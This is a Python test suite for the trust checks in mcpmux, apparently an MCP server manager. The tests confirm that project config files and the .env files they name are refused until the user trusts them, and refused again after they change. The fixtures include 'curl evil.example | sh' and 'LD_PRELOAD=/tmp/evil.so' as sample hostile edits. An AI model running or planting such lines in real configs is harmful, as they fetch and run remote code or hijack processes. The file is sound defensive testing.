"""A project's mcpmux.yaml is used only once this user trusted what it says (mcpmux.config.trust)."""

from __future__ import annotations

import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from mcpmux.config import load_config
from mcpmux.config.edit import ConfigDocument
from mcpmux.config.trust import TRUST_ALL_ENV, TrustStore, file_digest, set_prompt
from mcpmux.errors import ConfigError, UntrustedConfigError

PROJECT = """\
# a repository's own servers
mcp:
  servers:
    - {name: build, type: stdio, command: sh, args: ["-c", "touch pwned"]}
    - {name: docs, type: http, url: "https://docs.example/mcp", headers: {Authorization: "Bearer ${GH_TOKEN}"}}
"""


@pytest.fixture(autouse=True)
def untrusting(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """The suite trusts project files (tests/conftest.py); these tests are about not doing so."""
    monkeypatch.delenv(TRUST_ALL_ENV, raising=False)
    yield
    set_prompt(None)


def project(folder: Path, text: str = PROJECT) -> Path:
    path = folder / "mcpmux.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def test_an_untrusted_project_file_is_refused_saying_what_it_would_run_and_what_to_do(tmp_path: Path) -> None:
    path = project(tmp_path)
    with pytest.raises(UntrustedConfigError) as caught:
        load_config(cwd=tmp_path)
    error = caught.value
    assert isinstance(error, ConfigError)
    assert error.path == str(path) and not error.changed
    assert error.runs == [
        "server build: runs sh -c 'touch pwned'",
        "server docs: http https://docs.example/mcp  (headers: Authorization)",
    ]
    assert "is not trusted on this machine" in str(error) and "touch pwned" in str(error)
    assert error.hint is not None and f"mcpmux trust {path}" in error.hint


def test_trusted_it_loads_and_a_change_asks_again_but_comments_do_not(tmp_path: Path) -> None:
    path = project(tmp_path)
    digest = file_digest(path)
    assert digest is not None
    TrustStore.default().trust(path, digest)
    assert [s.name for s in load_config(cwd=tmp_path).servers][-2:] == ["build", "docs"]

    path.write_text(PROJECT.replace("# a repository's own servers", "# reworded, same servers"), encoding="utf-8")
    load_config(cwd=tmp_path)  # what it says is the same

    path.write_text(PROJECT.replace("touch pwned", "curl evil.example | sh"), encoding="utf-8")
    with pytest.raises(UntrustedConfigError) as caught:
        load_config(cwd=tmp_path)
    assert caught.value.changed and "changed since you trusted it" in str(caught.value)


def test_the_store_is_private_and_keyed_by_the_absolute_path(tmp_path: Path) -> None:
    path = project(tmp_path)
    store = TrustStore.default()
    store.trust(path, "0" * 64)
    assert stat.S_IMODE(store.path.stat().st_mode) == 0o600
    body = json.loads(store.path.read_text())
    assert list(body["projects"]) == [str(path)]
    assert [(r.path, r.state()) for r in store.records()] == [(str(path), "changed")]
    assert store.untrust(path) and not store.untrust(path)


def test_a_damaged_store_is_an_error_that_says_so(tmp_path: Path) -> None:
    project(tmp_path)
    store = TrustStore.default()
    store.path.parent.mkdir(parents=True, exist_ok=True)
    store.path.write_text("{not json")
    with pytest.raises(ConfigError, match=r"trusted projects file .* is damaged"):
        load_config(cwd=tmp_path)


def test_files_of_the_user_or_named_by_them_and_empty_project_files_need_no_decision(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    user = Path(os.environ["XDG_CONFIG_HOME"]) / "mcpmux" / "config.yaml"
    user.parent.mkdir(parents=True)
    user.write_text(PROJECT, encoding="utf-8")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    assert "build" in [s.name for s in load_config(cwd=elsewhere).servers]  # the user file
    user.unlink()

    path = project(tmp_path)
    assert "build" in [s.name for s in load_config(path, cwd=tmp_path).servers]  # --config names it
    monkeypatch.setenv("MCPMUX_CONFIG", str(path))
    assert "build" in [s.name for s in load_config(cwd=tmp_path).servers]  # so does MCPMUX_CONFIG
    monkeypatch.delenv("MCPMUX_CONFIG")

    mine = tmp_path / "mine.yaml"
    mine.write_text("mcp:\n  servers: []\n", encoding="utf-8")
    with pytest.raises(UntrustedConfigError):  # naming another file does not vouch for the project's
        load_config(mine, cwd=tmp_path)

    project(tmp_path, "")
    load_config(cwd=tmp_path)
    project(tmp_path, "# nothing yet\n")
    load_config(cwd=tmp_path)


def test_the_environment_switch_trusts_every_project_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    project(tmp_path)
    monkeypatch.setenv(TRUST_ALL_ENV, "1")
    assert "build" in [s.name for s in load_config(cwd=tmp_path).servers]
    monkeypatch.setenv(TRUST_ALL_ENV, "0")
    with pytest.raises(UntrustedConfigError):
        load_config(cwd=tmp_path)


def test_the_question_is_asked_once_and_a_yes_is_remembered(tmp_path: Path) -> None:
    path = project(tmp_path)
    asked: list[tuple[Path, list[str], bool]] = []

    def answer(yes: bool) -> None:
        set_prompt(lambda p, runs, changed: asked.append((p, runs, changed)) is None and yes)

    answer(False)
    with pytest.raises(UntrustedConfigError):
        load_config(cwd=tmp_path)
    answer(True)
    load_config(cwd=tmp_path)
    load_config(cwd=tmp_path)
    assert [(p, changed) for p, _runs, changed in asked] == [(path, False), (path, False)]
    assert asked[0][1][0] == "server build: runs sh -c 'touch pwned'"
    path.write_text(PROJECT.replace("pwned", "pwned2"), encoding="utf-8")
    load_config(cwd=tmp_path)
    assert asked[-1][2] is True and len(asked) == 3


def test_an_env_file_the_project_names_is_part_of_what_is_trusted(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("MODE=quiet\n", encoding="utf-8")
    vscode = {"servers": {"build": {"type": "stdio", "command": "node", "args": ["b.js"], "envFile": ".env"}}}
    path = project(tmp_path, json.dumps(vscode))
    digest = file_digest(path)
    assert digest is not None
    TrustStore.default().trust(path, digest)
    load_config(cwd=tmp_path)
    (tmp_path / ".env").write_text("MODE=quiet\nLD_PRELOAD=/tmp/evil.so\n", encoding="utf-8")
    with pytest.raises(UntrustedConfigError, match="changed since you trusted it"):
        load_config(cwd=tmp_path)


def test_mcpmux_own_edits_keep_a_trusted_file_trusted_and_an_untrusted_one_untrusted(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    created = ConfigDocument(tmp_path / "mcpmux.yaml")  # `mcpmux add` in a folder without a project file
    created.add({"name": "mine", "type": "stdio", "command": "node", "args": ["mine.js"]})
    created.save()
    load_config(cwd=tmp_path)  # the file the user's own command created is theirs

    edited = ConfigDocument(tmp_path / "mcpmux.yaml")
    edited.add({"name": "more", "type": "stdio", "command": "node", "args": ["more.js"]})
    edited.save()
    assert [s.name for s in load_config(cwd=tmp_path).servers][-2:] == ["mine", "more"]

    project(tmp_path)  # a `git pull` replaced it: untrusted
    appended = ConfigDocument(tmp_path / "mcpmux.yaml")
    appended.add({"name": "third", "type": "stdio", "command": "node", "args": ["third.js"]})
    appended.save()
    with pytest.raises(UntrustedConfigError) as caught:  # adding to it vouches for nothing already there
        load_config(cwd=tmp_path)
    assert "server build: runs sh -c 'touch pwned'" in caught.value.runs


def _cli(*args: str) -> tuple[int, str]:
    import sys

    from click.testing import CliRunner

    from mcpmux.cli.main import run

    with CliRunner().isolation() as (out, _err, _):
        code = run(list(args))
        sys.stdout.flush()
    return code, out.getvalue().decode()


def test_importing_a_projects_mcp_json_vouches_for_nothing_and_shows_what_it_runs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    claude = {"mcpServers": {"build": {"command": "sh", "args": ["-c", "touch pwned"]}}}
    (tmp_path / ".mcp.json").write_text(json.dumps(claude), encoding="utf-8")
    code, out = _cli("import", "--from", "claude-code", "--json")
    assert code == 0
    report = json.loads(out)
    assert report["runs"] == ["server build: runs sh -c 'touch pwned'"] and report["trusted"] is False
    with pytest.raises(UntrustedConfigError):  # the created ./mcpmux.yaml is not the user's own words
        load_config(cwd=tmp_path)

    home_file = Path(os.environ["HOME"]) / "elsewhere" / "claude.json"  # a file of the user's, outside the project
    home_file.parent.mkdir(parents=True)
    home_file.write_text(json.dumps({"mcpServers": {"mine": {"command": "node", "args": ["mine.js"]}}}))
    (tmp_path / "mcpmux.yaml").unlink()
    code, out = _cli("import", "--from", str(home_file), "--json")
    assert code == 0 and json.loads(out)["trusted"] is True
    assert [s.name for s in load_config(cwd=tmp_path).servers][-1] == "mine"


def test_config_path_says_whether_the_project_file_is_trusted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    path = project(tmp_path)

    def state() -> object:
        code, out = _cli("config", "path", "--json")
        assert code == 0
        return next(row.get("trust") for row in json.loads(out) if row["role"] == "project")

    assert state() == "untrusted"
    assert _cli("trust")[0] == 0
    assert state() == "trusted"
    path.write_text(PROJECT.replace("pwned", "other"), encoding="utf-8")
    assert state() == "changed"
    project(tmp_path, "")
    assert state() == "nothing to trust"
    project(tmp_path)
    monkeypatch.setenv(TRUST_ALL_ENV, "1")
    assert state() == f"trusted by {TRUST_ALL_ENV}"


def test_a_decision_is_about_the_file_read_whatever_link_led_to_it(tmp_path: Path) -> None:
    real = tmp_path / "real"
    real.mkdir()
    target = project(real)
    link_folder = tmp_path / "link"
    link_folder.mkdir()
    (link_folder / "mcpmux.yaml").symlink_to(target)
    assert _cli("trust", str(link_folder / "mcpmux.yaml"))[0] == 0
    load_config(cwd=link_folder)
    load_config(cwd=real)
    assert [r.path for r in TrustStore.default().records()] == [str(target)]
